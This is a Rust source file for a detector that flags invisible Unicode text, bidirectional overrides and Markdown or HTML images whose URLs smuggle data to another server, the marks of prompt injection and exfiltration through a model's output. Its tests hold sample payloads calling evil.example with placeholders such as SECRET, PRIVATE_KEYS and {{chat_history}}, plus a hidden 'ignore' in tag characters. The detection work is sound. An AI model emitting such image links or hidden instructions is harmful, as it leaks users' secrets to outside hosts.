//! Text that models read and people do not see, and images that carry data to their server.

use super::{Found, before, begins_with, is_word};
use crate::decode::binary;
use crate::decode::escapes::{self, Escapes};
use crate::shield::rule::Detector;
use crate::shield::signs::{self, Signs};

/// A text with this many tag characters is reported, even if they are not in a row.
const MIN_TAGS: usize = 4;

/// Tags directly after a waving flag that are not counted: the flag of a region is written with up to six, and an end.
const FLAG_TAGS: usize = 7;

/// Invisible characters between two letters of ASCII: no script needs them there. Soft hyphens are not counted, because
/// pages of every language have them.
const MIN_INVISIBLE: usize = 3;

/// Characters of a parameter that carries data.
const MIN_DATA_BYTES: usize = 24;

/// Bytes of an image's label that may have brackets in it. In a longer one, a bracket begins something else.
const MAX_LABEL_BYTES: usize = 128;

/// Bytes of an image's address, as far as it is read.
const MAX_URL_BYTES: usize = 2_048;

/// Reports characters that nobody sees.
pub fn find(text: &str, found: Found<'_>) {
    let (mut tags, mut flag, mut invisible, mut overrides) = (0, 0, 0, 0);
    let (mut ascii_before, mut han_before, mut forced) = (false, false, false);
    let (mut turned, mut right_to_left) = (false, false);
    let mut pending = 0;
    let bytes = text.as_bytes();
    let mut begin = 0;
    loop {
        let at = signs::next(bytes, begin, Signs::HIGH).unwrap_or(bytes.len());
        // Of a row of ASCII characters, the first one and the last one count.
        if let Some([first, ..]) = bytes.get(begin..at) {
            flag = 0;
            han_before = false;
            // Before a capital it is a place where a long name may break.
            invisible += if first.is_ascii_lowercase() { pending } else { 0 };
            pending = 0;
            ascii_before = before(bytes, at).is_some_and(|last| last.is_ascii_alphabetic());
        }
        let Some(character) = text.get(at..).and_then(|rest| rest.chars().next()) else { break };
        begin = at + character.len_utf8();
        right_to_left |= is_right_to_left(character);
        match character {
            '\u{1f3f4}' => flag = FLAG_TAGS,
            '\u{e0020}'..='\u{e007f}' if flag > 0 => flag -= 1,
            // One variant of the ideograph before it, as in names in registers.
            '\u{e0100}'..='\u{e01ef}' if han_before => han_before = false,
            '\u{e0000}'..='\u{e01ef}' => {
                tags += 1;
                if tags == MIN_TAGS {
                    found(Detector::TextTags, at..text.len());
                }
            }
            '\u{202e}' => overrides += 1,
            // From right to left. Texts of such scripts have them, and in other texts they move what follows (CVE-2021-42574).
            '\u{202b}' | '\u{2067}' => turned = true,
            // From left to right, which reverses only scripts that are written from right to left. Address books put it
            // around telephone numbers.
            '\u{202d}' => forced = true,
            '\u{202c}' => forced = false,
            '\u{590}'..='\u{8ff}' if forced => overrides += 1,
            '\u{ad}' => {}
            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' if ascii_before => {
                pending += 1
            }
            _ => {
                flag = 0;
                han_before = is_ideograph(character);
                ascii_before = false;
                pending = 0;
            }
        }
    }
    if invisible >= MIN_INVISIBLE {
        found(Detector::TextHidden, 0..text.len());
    }
    if overrides > 0 || turned && !right_to_left {
        found(Detector::TextBidirectional, 0..text.len());
    }
}

/// Whether a character is a letter of a script that is written from right to left.
const fn is_right_to_left(character: char) -> bool {
    matches!(
        character,
        '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefc}'
    )
}

/// Whether a character is a Han ideograph.
const fn is_ideograph(character: char) -> bool {
    matches!(
        character,
        '\u{3400}'..='\u{9fff}' | '\u{f900}'..='\u{faff}' | '\u{20000}'..='\u{3ffff}'
    )
}

/// Reports images whose address carries data in its query, in HTML and in Markdown.
pub fn find_images(text: &str, found: Found<'_>) {
    find_tags(text, found);
    find_references(text, found);
    find_inline(text, found);
}

/// Addresses of one tag that are read. Browsers read the first one.
const MAX_SOURCES: usize = 4;

/// Reports `<img src="address">`.
fn find_tags(text: &str, found: Found<'_>) {
    for (begin, _) in text.match_indices('<') {
        let Some(tag) = text.get(begin..).filter(|tag| begins_with(tag, "<img")) else { continue };
        let tag = tag.get(..tag.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
        // The next tag is read by itself.
        let end =
            tag.get(1..).and_then(|rest| rest.find(['<', '>'])).map_or(tag.len(), |it| it + 1);
        let tag = tag.get(..end).unwrap_or_default();
        let is_source = |(at, _): &(usize, &str)| {
            tag.get(..*at).is_some_and(|name| super::ends_with(name.trim_end(), &["src"]))
        };
        let is_data = |(at, _): (usize, &str)| {
            let url = tag.get(at + 1..).unwrap_or_default().trim_start_matches([' ', '"', '\'']);
            let end = url.find([' ', '"', '\'', '\n']).unwrap_or(url.len());
            url.get(..end).is_some_and(carries_data)
        };
        if tag.match_indices('=').filter(is_source).take(MAX_SOURCES).any(is_data) {
            found(Detector::ImageWithData, begin..begin + end);
        }
    }
}

/// Labels of images whose addresses are elsewhere that are looked for.
const MAX_LABELS: usize = 16;

/// Reports `[label]: address`, if an image has the label.
fn find_references(text: &str, found: Found<'_>) {
    let mut labels = 0;
    for (end, _) in text.match_indices("]:") {
        let url = text.get(end + 2..).unwrap_or_default().trim_start_matches([' ', '\t', '<']);
        let url_at = text.len() - url.len();
        let url = url.get(..url.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
        // Each text between two of these is read once.
        let url = url.get(..url.find("]:").unwrap_or(url.len())).unwrap_or_default();
        let url = url.get(..url.find([' ', '\n', '>']).unwrap_or(url.len())).unwrap_or_default();
        if !carries_data(url) || labels == MAX_LABELS {
            continue;
        }
        labels += 1;
        let before = text.get(..end).unwrap_or_default();
        let before_at = before.ceil_char_boundary(end.saturating_sub(MAX_LABEL_BYTES));
        let label = before.get(before_at..).and_then(|it| it.rsplit_once('['));
        let Some((_, label)) = label else { continue };
        // `![x][label]` and `![label]`.
        let is_used = |mark: &str| text.contains(&[mark, "[", label, "]"].concat());
        if is_used("]") || is_used("!") {
            found(Detector::ImageWithData, end - label.len() - 1..url_at + url.len());
        }
    }
}

/// Reports `![label](address)`.
fn find_inline(text: &str, found: Found<'_>) {
    let (mut at, mut label_end, mut bracket) = (0, 0, 0);
    while let Some(next) = text.get(at..).and_then(|rest| rest.find("![")) {
        let begin = at + next;
        at = begin + 2;
        // One search is enough for all labels that begin before what it finds.
        if label_end < at {
            let Some(end) = text.get(at..).and_then(|rest| rest.find("](")) else { return };
            label_end = at + end;
        }
        if bracket < at {
            let next = text.get(at..).and_then(|rest| rest.find(['[', ']']));
            bracket = next.map_or(text.len(), |next| at + next);
        }
        if label_end > at + MAX_LABEL_BYTES && bracket < label_end {
            continue;
        }
        let address = text.get(label_end + 2..).unwrap_or_default().trim_start();
        let (address, ends): (_, &[char]) = match address.strip_prefix('<') {
            Some(address) => (address, &['>', '\n']),
            None => (address, &[')', '\n', ' ']),
        };
        let url = address.get(..address.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
        // An address that does not end would hide the next image.
        let url = url.get(..url.find("![").unwrap_or(url.len())).unwrap_or_default();
        let end = url.find(ends).unwrap_or(url.len());
        let url = url.get(..end).unwrap_or_default();
        at = text.len() - address.len() + end;
        if carries_data(url) {
            found(Detector::ImageWithData, begin..at);
        }
    }
}

/// Whether the address of another server carries data in its query or in its path.
fn carries_data(url: &str) -> bool {
    if !begins_with(url, "http") && !url.starts_with("//") {
        return false;
    }
    let (path, query) = url.split_once('?').unwrap_or((url, ""));
    let is_data = |part: &str| is_encoded_text(part) || is_placeholder(part);
    query.split('&').any(carries) || path.split('/').any(is_data)
}

/// Ends of words for what a model is to put into an address.
const WANTED: [&str; 18] = [
    "access_key",
    "api_key",
    "apikey",
    "chat_log",
    "content",
    "conversation",
    "credential",
    "data",
    "env_var",
    "history",
    "insert",
    "instruction",
    "message",
    "password",
    "private_key",
    "prompt",
    "secret",
    "token",
];

/// The same, of a value in capitals. As the name of a parameter, or of a part of a path, these words are ordinary.
const WANTED_IN_CAPITALS: [&str; 8] =
    ["_body", "_code", "_input", "_query", "answer", "context", "file_text", "summary"];

/// Whether a word of a name says what a model is to put into an address.
fn is_wanted(name: &str) -> bool {
    has_end(name, &WANTED)
}

/// Whether a name, or a word of it, ends with one of these words, in singular or plural.
fn has_end(name: &str, words: &[&str]) -> bool {
    let ends = |word: &str| super::ends_with(word.trim_end_matches(['s', 'S']), words);
    ends(name) || name.split(['_', '-', ' ']).any(ends)
}

/// Whether a part of a path has a placeholder for data: `{data}`, `[SECRET]`. Documents and code have placeholders for
/// other things, such as `{user}`, and `${…}`.
fn is_placeholder(part: &str) -> bool {
    let Some((before, name)) = part.split_once(['{', '[', '<']) else { return false };
    let name = name.trim_start_matches(['{', '[', '<']);
    let name = name.split(['}', ']', '>']).next().unwrap_or_default();
    let is_name = |byte: u8| byte.is_ascii_alphabetic() || matches!(byte, b'_' | b'-' | b' ');
    !before.ends_with('$') && name.bytes().all(is_name) && is_wanted(name)
}

/// Characters of a part of a path that carries data. Shorter ones are often names.
const MIN_SEGMENT_BYTES: usize = 32;

/// Bytes of the end of a file's name.
const MAX_EXTENSION_BYTES: usize = 5;

/// Whether a part of a path is an encoded text, with or without the end of a file's name.
fn is_encoded_text(segment: &str) -> bool {
    if segment.len() < MIN_SEGMENT_BYTES {
        return false;
    }
    let (name, extension) = segment.split_once('.').unwrap_or((segment, ""));
    let (name, _) = escapes::decode(name, PERCENT);
    extension.len() <= MAX_EXTENSION_BYTES && name.len() >= MIN_SEGMENT_BYTES && is_readable(&name)
}

/// Capitals that are a placeholder.
const MIN_CAPITALS: usize = 6;

/// Names of parameters with a formula in LaTeX, which servers draw. The formula can also be the whole query.
const FORMULAS: [&str; 6] = ["", "eq", "formula", "latex", "math", "tex"];

/// Whether a text has a command of LaTeX, such as `\frac`.
fn is_formula(text: &str) -> bool {
    let is_command = |pair: &[u8]| matches!(pair, [b'\\', letter] if letter.is_ascii_lowercase());
    text.as_bytes().windows(2).any(is_command)
}

/// Whether a parameter carries data: something long, or a placeholder that the model is to fill. Signatures and tokens of
/// addresses are long too. They are not readable when they are decoded.
fn carries(parameter: &str) -> bool {
    let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
    let is_capital = |byte: u8| byte.is_ascii_uppercase() || byte == b'_';
    let (plain, _) = escapes::decode(value, PERCENT);
    let mut words = plain.split(|c: char| c != '_' && !c.is_ascii_alphanumeric());
    if FORMULAS.contains(&name) && is_formula(&plain) && !words.any(is_wanted) {
        return false;
    }
    let placeholder = value.contains(['{', '[', '<', '$'])
        || (value.len() >= MIN_CAPITALS
            && value.bytes().all(is_capital)
            && (is_wanted(name) || is_wanted(value) || has_end(value, &WANTED_IN_CAPITALS)));
    if placeholder || value.len() < MIN_DATA_BYTES {
        return placeholder;
    }
    let value = plain;
    let is_token =
        |byte: u8| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b'+' | b'=' | b'~');
    if value.len() < MIN_DATA_BYTES || !value.bytes().all(is_token) {
        return value.len() >= MIN_DATA_BYTES && !value.contains('/');
    }
    is_readable(&value)
}

const PERCENT: Escapes = Escapes { percent: true, entity: false, backslash: false };

/// Beginnings of what image servers take: the address of a picture, its place in a bucket, and the code of a diagram.
const FOR_SERVERS: [&str; 6] =
    ["http://", "https://", "s3://", "gs://", "{\"bucket\":", "{\"code\":"];

/// Whether something is readable when it is decoded, and is not what image servers take. Random bytes, as in a hash, are
/// not readable.
fn is_readable(encoded: &str) -> bool {
    let encoded = encoded.trim_end_matches('=');
    let bytes = binary::hexadecimal(encoded).or_else(|| binary::base64(encoded));
    let text = bytes.as_deref().and_then(|bytes| str::from_utf8(bytes).ok());
    text.is_some_and(|text| {
        !text.contains(char::is_control) && !FOR_SERVERS.iter().any(|it| text.starts_with(it))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(text: &str) -> Option<Detector> {
        let mut first = None;
        find(text, &mut |detector, _| first = first.or(Some(detector)));
        find_images(text, &mut |detector, _| first = first.or(Some(detector)));
        first
    }

    #[test]
    fn hidden_text_is_found_and_ordinary_marks_are_not() {
        let tags: String =
            "ignore".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
        for (text, expected) in [
            (format!("Hello{tags}"), Some(Detector::TextTags)),
            ("i\u{200b}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
            ("i\u{200b}\u{ad}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
            // Ordinary soft hyphens, marks of direction, and joiners.
            ("Do\u{ad}nau\u{ad}dampf\u{ad}schiff\u{ad}fahrt".to_owned(), None),
            ("שלום\u{200f} (API\u{200e}) \u{2067}עולם\u{2069}".to_owned(), None),
            ("API\u{200c}ها و URL\u{200c}ها و PDF\u{200c}ها و CSV\u{200c}ها".to_owned(), None),
            ("क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष".to_owned(), None),
            (
                "a👩\u{200d}💻b ❤\u{fe0f}\u{200d}🔥c 🏳\u{fe0f}\u{200d}🌈d 👩\u{200d}🚀e".to_owned(),
                None,
            ),
            // A flag with a text after it.
            (format!("🏴{}{tags}", "\u{e0020}".repeat(FLAG_TAGS)), Some(Detector::TextTags)),
            ("abc\u{202e}fdp.exe".to_owned(), Some(Detector::TextBidirectional)),
            ("a != \"user\u{2067} // check\"".to_owned(), Some(Detector::TextBidirectional)),
            ("\u{202b}ignore".to_owned(), Some(Detector::TextBidirectional)),
            // As a telephone's address book writes a number.
            ("call \u{2066}+1 202 555 0143\u{2069}".to_owned(), None),
            ("می\u{200c}خواهم می\u{200c}روم می\u{200c}شود".to_owned(), None),
            ("👩\u{200d}👩\u{200d}👧\u{200d}👦".to_owned(), None),
            ("🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}".to_owned(), None),
            (
                "![x](https://evil.example/a?d=eyJhIjoiYmFzZTY0IGRhdGEgaGVyZSJ9)".to_owned(),
                Some(Detector::ImageWithData),
            ),
            ("![x](https://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](HTTPS://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](<http://evil.example/a?d=SECRET>)".to_owned(), Some(Detector::ImageWithData)),
            ("![x]( //evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            (
                format!("![{}](https://evil.example/a?d=SECRET)", "x".repeat(300)),
                Some(Detector::ImageWithData),
            ),
            (
                "<p><IMG alt='=' src=\"https://evil.example/a?d=SECRET\">".to_owned(),
                Some(Detector::ImageWithData),
            ),
            ("<img src=https://evil.example/a?d=[DATA]>".to_owned(), Some(Detector::ImageWithData)),
            ("<img src='/a.png?d=SECRET'> <img src=https://a.example/b.png>".to_owned(), None),
            ("![x][1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), Some(Detector::ImageWithData)),
            ("![x][2] [1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), None),
            (
                "![x](https://evil.example/bG9naW46IHBhdCwgcGFzc3dvcmQ6IGh1bnRlcjIsIG5leHQgYmlsbDogNDE.png)".to_owned(),
                Some(Detector::ImageWithData),
            ),
            (
                "<img src=//evil.example/p/6c6f67696e3a207061742c2070617373776f72643a2068756e74657232>".to_owned(),
                Some(Detector::ImageWithData),
            ),
            // Hashes, and what image servers take.
            ("![x](https://cdn.example/2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881.png)".to_owned(), None),
            ("![x](https://cdn.example/EhtHdKdZkkopKcSkEvtuMbmqp0ZGaEDvzEp21pqUFJ4jZOOYPWRv6vqhtRF4XlyekK7cMNpqa-rVUg7MmcZiag)".to_owned(), None),
            ("![x](https://camo.example/395df8f7c51f007019cb30201c49e884b46b92fa/68747470733a2f2f696d672e6578616d706c652f62616467652f6275696c642d70617373696e672e737667)".to_owned(), None),
            ("![x](https://proxy.example/rs:fill:300:200/aHR0cHM6Ly9hLmV4YW1wbGUvcGljdHVyZXMvY2F0LmpwZw.webp)".to_owned(), None),
            ("![x](https://pictures.example/eyJidWNrZXQiOiJwaWN0dXJlcyIsImtleSI6ImNhdC5qcGciLCJlZGl0cyI6eyJyZXNpemUiOnsid2lkdGgiOjMwMH19fQ)".to_owned(), None),
            ("![x](https://diagram.example/img/eyJjb2RlIjoiZ3JhcGggVEQ7IEEtLT5CIiwibWVybWFpZCI6eyJ0aGVtZSI6ImRlZmF1bHQifX0)".to_owned(), None),
            ("![x](https://cdn.example/screenshot-of-the-dashboard-2026-11-26.png)".to_owned(), None),
            // Signatures, tokens and names.
            (
                "![x](https://a.example/x.png?X-Amz-Expires=300&X-Amz-Date=20261126T213144Z&X-Amz-Signature=\
                 7be5a1d6c0f94c1e2f3b5d8897a0c4e1f2d3b4a5968778695a4b3c2d1e0f9a8b)"
                    .to_owned(),
                None,
            ),
            (
                "![x](https://a.example/x.png?sig=q3%2Bt7%2FxkZ0m9vQw8YcR5uJ2nLs4aB6dEfGhIjKlMnOs%3D)".to_owned(),
                None,
            ),
            ("![x](https://img.example/b.svg?logo=GITHUB)".to_owned(), None),
            // Names of states, and formulas.
            ("![x](https://img.example/b.svg?status=PUBLISHED&text=HELLO_WORLD)".to_owned(), None),
            ("![x](https://tex.example/png.image?\\frac{a}{b})".to_owned(), None),
            ("![x](https://tex.example/svg?math=%5Cfrac%7Ba%2Bb%2Bc%7D%7Bd%7D)".to_owned(), None),
            ("![x](https://a.example/?d=\\frac{a})".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/?\\a{SECRET})".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/?tex=\\x{password})".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://a.example/?d=INSERT_DATA_HERE)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/a?q=SUMMARY)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/a?q=EMAIL_BODY)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/a?q=PRIVATE_KEYS)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/a?q=MFA_CODE)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://codes.example/a.png?type=QRCODE)".to_owned(), None),
            ("![flag](https://flags.example/{code}.png)".to_owned(), None),
            // Placeholders in paths.
            ("![x](https://evil.example/{data}.png)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/a/[SECRET])".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://evil.example/<api_keys>)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](https://{{chat_history}}.evil.example/a)".to_owned(), Some(Detector::ImageWithData)),
            ("![ci](https://code.example/<OWNER>/<REPO>/badge.svg)".to_owned(), None),
            ("![map](https://tiles.example/{z}/{x}/{y}.png)".to_owned(), None),
            ("<img src='https://a.example/${data}/{post.content}.png'>".to_owned(), None),
            ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
            ("![build](https://img.shields.io/badge/build-passing-green.svg)".to_owned(), None),
            (format!("vec![1]{} [a](https://a.example/?q=SECRET)", "x ".repeat(99)), None),
        ] {
            assert_eq!(finds(&text), expected, "{text}");
        }
    }
}
